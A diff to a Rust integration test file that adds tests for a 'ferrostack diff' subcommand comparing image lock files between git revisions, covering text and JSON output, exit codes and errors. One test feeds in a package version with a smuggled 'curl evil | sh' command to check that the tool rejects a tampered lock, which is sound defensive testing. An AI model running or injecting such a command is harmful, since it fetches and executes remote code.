@@ -178,7 +178,7 @@ fn list_and_graph() {
 
 #[test]
 fn every_subcommand_has_help() {
-    for sub in ["list", "render", "plan", "graph", "lock"] {
+    for sub in ["list", "render", "plan", "graph", "lock", "diff"] {
         let out = Command::cargo_bin("ferrostack").unwrap().args([sub, "--help"]).output().unwrap();
         assert_eq!(out.status.code(), Some(0), "{sub}");
         assert!(stdout(&out).contains("Usage: ferrostack"), "{sub}");
@@ -362,4 +362,62 @@ fn plan_simulate_needs_engines_and_slots_from_one() {
     }
     let out = ferrostack(&root, &["plan", "--pull-rate", "1GB/s"]);
     assert_eq!(out.status.code(), Some(2), "--pull-rate goes with --simulate: {}", stderr(&out));
+}
+
+/// `ferrostack diff` between git revisions of the lock and files: a one-package night named
+/// where it happened, JSON, `--exit-code`, an unknown revision and an edited lock refused.
+#[test]
+fn diff_names_what_changed_between_two_locks() {
+    let tmp = tempfile::tempdir().unwrap();
+    let root = tmp.path();
+    let git = |args: &[&str]| {
+        let out = std::process::Command::new("git").arg("-C").arg(root).args(["-c", "user.name=t", "-c", "user.email=t@example.org", "-c", "commit.gpgsign=false"]).args(args).output().unwrap();
+        assert!(out.status.success(), "git {args:?}: {}", stderr(&out));
+    };
+    let lock = |libssl: &str, size: u64| {
+        format!(
+            "version = 1\n\n[stacks.base]\nhash = \"sha256:{}\"\nsize = {size}\n\n[stacks.base.closure]\n\"libc6:amd64\" = \"2.36-9+deb12u10 src=glibc\"\n\"libssl3:amd64\" = \"{libssl} src=openssl\"\n\n[stacks.python]\nhash = \"sha256:{}\"\nparent = \"base\"\n\n[stacks.python.closure]\n\"python3:amd64\" = \"3.11.2-1+b1 src=python3-defaults@3.11.2-1\"\n",
+            if libssl.ends_with('2') { "aa" } else { "ab" },
+            if libssl.ends_with('2') { "ba" } else { "bb" },
+        )
+    };
+    std::fs::write(root.join("images.lock"), lock("3.0.17-1~deb12u2", 100_000_000)).unwrap();
+    git(&["init", "-q"]);
+    git(&["add", "images.lock"]);
+    git(&["commit", "-qm", "last night"]);
+    std::fs::write(root.join("images.lock"), lock("3.0.17-1~deb12u3", 100_400_000)).unwrap();
+
+    let out = ferrostack(root, &["diff"]);
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    insta::assert_snapshot!(stdout(&out), @r"
+    # What changed: HEAD → working tree
+
+    ## base
+
+    - size: 100.0 MB → 100.4 MB (+400.0 KB)
+    - hash: aa → ab
+    - libssl3 3.0.17-1~deb12u2 → 3.0.17-1~deb12u3 (openssl)
+
+    ## python
+
+    - hash: ba → bb
+    - and 1 package change inherited from its parent
+    ");
+    let out = ferrostack(root, &["diff", "--json", "--stack", "python"]);
+    let json: serde_json::Value = serde_json::from_str(&stdout(&out)).unwrap();
+    assert_eq!(json["stacks"][0]["packages"][0], serde_json::json!({"package": "libssl3:amd64", "source": "openssl", "change": "moved", "from": "3.0.17-1~deb12u2", "to": "3.0.17-1~deb12u3", "inherited": true}));
+    assert_eq!(ferrostack(root, &["diff", "--exit-code"]).status.code(), Some(1));
+    assert_eq!(ferrostack(root, &["diff", "HEAD", "HEAD", "--exit-code"]).status.code(), Some(0));
+    // Two files.
+    std::fs::write(root.join("old.lock"), lock("3.0.17-1~deb12u2", 100_000_000)).unwrap();
+    let out = ferrostack(root, &["diff", &root.join("old.lock").display().to_string(), &root.join("images.lock").display().to_string()]);
+    assert!(stdout(&out).contains("libssl3 3.0.17-1~deb12u2 → 3.0.17-1~deb12u3 (openssl)"), "{}", stdout(&out));
+    // An unknown revision, and a lock whose closure was edited into something else.
+    let out = ferrostack(root, &["diff", "no-such-rev"]);
+    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
+    assert!(stderr(&out).contains("`no-such-rev` is neither a file nor a revision"), "{}", stderr(&out));
+    std::fs::write(root.join("images.lock"), lock("3.0.17-1~deb12u3; curl evil | sh", 1)).unwrap();
+    let out = ferrostack(root, &["diff"]);
+    assert_ne!(out.status.code(), Some(0));
+    assert!(stderr(&out).contains("images.lock"), "{}", stderr(&out));
 }
